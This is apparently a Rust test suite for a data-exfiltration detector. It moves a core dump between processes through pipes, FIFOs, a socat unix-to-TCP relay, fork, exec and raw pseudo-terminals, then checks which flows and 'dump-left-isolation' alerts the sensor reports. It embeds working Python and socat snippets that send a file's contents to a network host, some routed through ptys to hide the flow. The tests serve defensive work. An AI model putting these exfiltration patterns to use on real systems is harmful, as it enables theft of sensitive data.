//! Between processes of one host: pipes, FIFOs, unix sockets, fork and exec.

use sensor_abi::flow::Via;
use sensor_user::step::{Confidence, Severity, StepKind};

use super::Shared;
use crate::harness::{
    expect::step,
    scene::{Scene, of_python, python},
    world::{
        Zone::{self, Internet, Production},
        in_zone,
    },
};

pub(super) const ALL: &[Shared] = &[
    ("local::pipe", pipe),
    ("local::fifo", fifo),
    ("local::unix_relay", unix_relay),
    ("local::terminal_shows", terminal_shows),
    ("local::terminal_is_fed", terminal_is_fed),
    ("local::next_terminal_is_clean", next_terminal_is_clean),
    ("local::fork_inherits", fork_inherits),
    ("local::exec_drops_memory", exec_drops_memory),
    ("local::read_again_later", read_again_later),
    ("local::opened_elsewhere", opened_elsewhere),
];

fn pipe(scene: &Scene<'_>) {
    let dump = scene.core();
    scene.shell(Production, &format!("cat {} | cat > {}", dump.path, scene.path("copy")));
    let copy = scene.path("copy");
    scene.sees(&dump, &step(StepKind::Read).from(&dump.path).to("cat[]").bytes(dump.size).hops(1));
    let sent = step(StepKind::Sent).via(Via::Pipe).from("cat[]").to("cat[]").zones("production", "production");
    let sent = scene.sees(&dump, &sent.bytes(dump.size));
    assert_ne!(sent.from, sent.to);
    scene.sees(&dump, &step(StepKind::Written).from(&sent.to).to(&copy).bytes(dump.size));
    scene.no_alert(&dump, Severity::Info);
}

/// Through a FIFO into another zone: a crossing.
fn fifo(scene: &Scene<'_>) {
    let (dump, fifo) = (scene.core(), scene.path("fifo"));
    scene.run(Production, "mkfifo", &[&fifo]);
    let copy = scene.path("copy");
    let mut reader = scene.start(in_zone(Internet, "sh").args(["-c", &format!("exec cat < {fifo} > {copy}")]));
    scene.shell(Production, &format!("exec cat {} > {fifo}", dump.path));
    assert!(reader.within(crate::harness::scene::SOON).success());
    let to = format!("cat[{}]", reader.pid());
    let sent = step(StepKind::Sent).via(Via::Pipe).from("cat[]").to(&to).zones("production", "internet");
    let sent = sent.bytes(dump.size).sure(Confidence::Direct);
    scene.sees(&dump, &sent);
    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &step(StepKind::Sent).to(&to));
    scene.sees(&dump, &step(StepKind::Written).from(&to).to(&copy).zones("internet", "internet").bytes(dump.size));
}

/// `socat`-like: one process reads the dump into a unix socket, another passes it on by TCP.
fn unix_relay(scene: &Scene<'_>) {
    let (dump, socket) = (scene.core(), scene.path("socket"));
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let address = Internet.address(Production);
    let mut relay = in_zone(Production, "socat");
    let mut relay = scene.start(relay.args(["-u", &format!("UNIX-LISTEN:{socket}"), &format!("TCP:{address}:{port}")]));
    scene.waits_for(&socket);
    // It is there before anybody listens.
    let connect = format!("UNIX-CONNECT:{socket},retry=50,interval=0.1");
    let source = scene.run(Production, "socat", &["-u", &format!("OPEN:{}", dump.path), &connect]);
    assert!(relay.within(crate::harness::scene::SOON).success() && sink.within(crate::harness::scene::SOON).success());
    let (first, second) = (format!("socat[{}]", source.pid), format!("socat[{}]", relay.pid()));
    let home = step(StepKind::Sent).via(Via::Unix).from(&first).to(&second).zones("production", "production");
    scene.sees(&dump, &home.bytes(dump.size).hops(2));
    let out =
        step(StepKind::Sent).via(Via::Tcp).from(&second).zones("production", "internet").destination(address, port);
    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &out.sure(Confidence::Direct));
}

/// Python with the dump's path, an address and a port.
fn by_python(scene: &Scene<'_>, path: &str, port: u16, script: &str) -> u32 {
    let script = format!("import os, socket, sys\npath, host, port = sys.argv[1:]\n{script}");
    let address = Internet.address(Production).to_string();
    scene.run(Zone::Production, python().to_str().unwrap(), &["-c", &script, path, &address, &port.to_string()]).pid
}

fn fork_inherits(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let parent = by_python(
        scene,
        &dump.path,
        port,
        "data = open(path, 'rb').read()
if os.fork(): sys.exit(os.wait()[1])
socket.create_connection((host, int(port))).sendall(data)",
    );
    assert!(sink.within(crate::harness::scene::SOON).success());
    let sent = step(StepKind::Sent).via(Via::Tcp).zones("production", "internet").sure(Confidence::Direct);
    let sent = scene.sees(&dump, &sent.bytes(dump.size));
    assert!(sent.pid.is_some_and(|pid| pid != parent), "the child sent it: {sent:#?}");
    let alert = step(StepKind::Sent).from(&sent.from).destination(Internet.address(Production), port);
    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &alert);
}

/// A process reads the dump, and becomes curl, which sends something else.
fn exec_drops_memory(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 1000);
    let other = scene.path("other");
    std::fs::write(&other, "nothing of interest\n".repeat(400)).unwrap();
    let pid = by_python(
        scene,
        &dump.path,
        port,
        &format!(
            "open(path, 'rb').read()
os.execlp('curl', 'curl', '-sS', '-T', '{other}', f'http://{{host}}:{{port}}/up')"
        ),
    );
    assert!(sink.within(crate::harness::scene::SOON).success());
    scene.sees(&dump, &step(StepKind::Read).bytes(dump.size).hops(1));
    scene.quiet(&dump);
    scene.no_alert(&dump, Severity::Info);
    let sent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.pid == Some(pid));
    assert!(sent.is_empty(), "exec drops what was read: {sent:#?}");
}

/// A service has passed on what it had, says other things on a connection that it keeps, and then reads the dump once more.
fn read_again_later(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size + 200);
    by_python(
        scene,
        &dump.path,
        port,
        "import time
service = socket.create_connection((host, int(port)))
open(path + '.copy', 'wb').write(open(path, 'rb').read())
time.sleep(6)
service.sendall(b'all is well' + b'.' * 189)
time.sleep(1)
service.sendall(open(path, 'rb').read())",
    );
    assert!(sink.within(crate::harness::scene::SOON).success());
    let out = step(StepKind::Sent).via(Via::Tcp).zones("production", "internet").bytes(dump.size);
    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &out.sure(Confidence::Direct));
}

/// What terminal scripts begin with. A terminal without echo, that lets bytes pass as they are.
const TERMINAL: &str = "
import base64, pty, time, tty
def terminal():
    master, slave = pty.openpty(); tty.setraw(slave); return master, slave
def text(n): return base64.b64encode(open(path, 'rb').read(n))
def send(data): socket.create_connection((host, int(port))).sendall(data)
def all(f, n):
    data = b''
    while len(data) < n: data += os.read(f, 4096)
    return data
def write(f, data):
    while data: data = data[os.write(f, data):]
";

fn through_a_terminal(scene: &Scene<'_>, script: &str) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 400_000);
    by_python(scene, &dump.path, port, &format!("{TERMINAL}{script}"));
    assert!(sink.within(crate::harness::scene::SOON).success());
    let through = step(StepKind::Sent).via(Via::Tty).zones("production", "production").bytes(400_000);
    let through = scene.sees(&dump, &through.sure(Confidence::Direct));
    assert_ne!(through.from, through.to);
    let out = step(StepKind::Sent).via(Via::Tcp).from(&through.to).zones("production", "internet");
    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &out.sure(Confidence::Direct));
}

/// A program writes to its terminal; who holds the other end sends.
fn terminal_shows(scene: &Scene<'_>) {
    let script = "
master, slave = terminal()
if os.fork() == 0: write(slave, text(300000)); time.sleep(0.2); os._exit(0)
send(all(master, 400000)); os.wait()";
    through_a_terminal(scene, script);
}

/// Somebody types, so to speak; the program that reads sends.
fn terminal_is_fed(scene: &Scene<'_>) {
    let script = "
master, slave = terminal()
if os.fork() == 0: send(all(slave, 400000)); os._exit(0)
write(master, text(300000)); os.wait()";
    through_a_terminal(scene, script);
}

/// Terminals that come after one which showed a dump, most of the same number and some at the same addresses: on one processor
/// memory that is freed is given out again at once.
fn next_terminal_is_clean(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 65536);
    let script = format!(
        "{TERMINAL}
os.sched_setaffinity(0, {{0}})
master, slave = terminal()
if os.fork() == 0: write(slave, text(3000)); os._exit(0)
os.wait(); os.close(master); os.close(slave)
for _ in range(30):
    master, slave = terminal()
    if os.fork() == 0: write(slave, b'business' * 50); os._exit(0)
    all(master, 400); os.wait(); os.close(master); os.close(slave)
send(b'business' * 8192)"
    );
    let pid = by_python(scene, &dump.path, port, &script);
    assert!(sink.within(crate::harness::scene::SOON).success());
    scene.quiet(&dump);
    let sent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.pid == Some(pid));
    assert!(sent.is_empty(), "the first terminal is gone: {sent:#?}");
}

/// Who opens a dump in another zone is told of, unless it reads: then that is. At home nothing is said.
fn opened_elsewhere(scene: &Scene<'_>) {
    let dump = scene.core();
    let open = |zone| scene.run(zone, python().to_str().unwrap(), &["-c", OPENS, &dump.path]).pid;
    let (home, stranger) = (open(Production), open(Internet));
    let reader = scene.run(Internet, "cat", &[&dump.path]).pid;
    let opened = step(StepKind::Opened).from(&dump.path).to(of_python(stranger)).zones("production", "internet");
    scene.alerts(&dump, "dump-opened-internet-facing", Severity::Low, &opened);
    scene.sees(&dump, &step(StepKind::Read).to(format!("cat[{reader}]")).bytes(dump.size));
    let openings = scene.agent.steps(&dump.id).into_iter().filter(|s| s.kind == StepKind::Opened);
    let by: Vec<_> = openings.map(|step| step.to).collect();
    assert_eq!(by, [of_python(stranger)], "neither who read it nor {home}, who is at home");
}

const OPENS: &str = "import os, sys, time; os.open(sys.argv[1], os.O_RDONLY); time.sleep(0.2)";
